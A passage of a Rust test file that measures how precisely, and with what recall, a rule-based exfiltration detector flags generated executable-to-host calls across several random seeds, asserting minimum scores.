                let (_, rules) = KINDS.iter().find(|(kind, _)| *kind == label).unwrap();
                row.found += usize::from(rules.iter().any(|rule| told.contains(rule)));
                right += told.len();
            }
            None => {
                wrong += told.len();
                for Told { rule, evidence } in said {
                    let (name, from, to) = (rule.name(), &made.executable, &made.host);
                    println!("seed {seed}: wrong: {name} of {from} to {to}: {evidence:?}");
                }
            }
        }
    }
    let (cases, found) = KINDS.iter().fold((0, 0), |(cases, found), (kind, _)| {
        let row = &rows[kind];
        (cases + row.cases, found + row.found)
    });
    let precision = right as f64 / (right + wrong) as f64;
    let recall = found as f64 / cases as f64;
    println!(
        "seed {seed}: precision {precision:.3}, recall {recall:.3} of {cases} cases in {ORDINARY} ordinary calls"
    );
    for (kind, row) in &rows {
        let told: Vec<_> = row
            .told
            .iter()
            .map(|(rule, times)| format!("{rule} {times}"))
            .collect();
        println!(
            "  {kind:32} {:6} calls, {:4} found: {}",
            row.cases,
            row.found,
            told.join(", ")
        );
    }
    assert!(cases >= 200 && rows["ordinary"].cases >= 20_000);
    (precision, recall)
}

fn check(seed: u64) {
    let (precision, recall) = judged(seed);
    assert!(precision >= 0.95, "seed {seed}: precision {precision:.3}");
    assert!(recall >= 0.9, "seed {seed}: recall {recall:.3}");
}

#[test]
fn exfiltration_is_found_with_the_seed_of_the_rules() {
    check(1);
}

#[test]
fn exfiltration_is_found_with_another_seed() {
    check(2);
}

#[test]
fn exfiltration_is_found_with_any_seed() {
    match std::env::var("VORTEX_FINDINGS_SEED").map(|seed| seed.parse::<u64>()) {
        Ok(seed) => check(seed.expect("VORTEX_FINDINGS_SEED is a number")),
        Err(_) => println!("SKIP: VORTEX_FINDINGS_SEED names no seed"),
    }
}
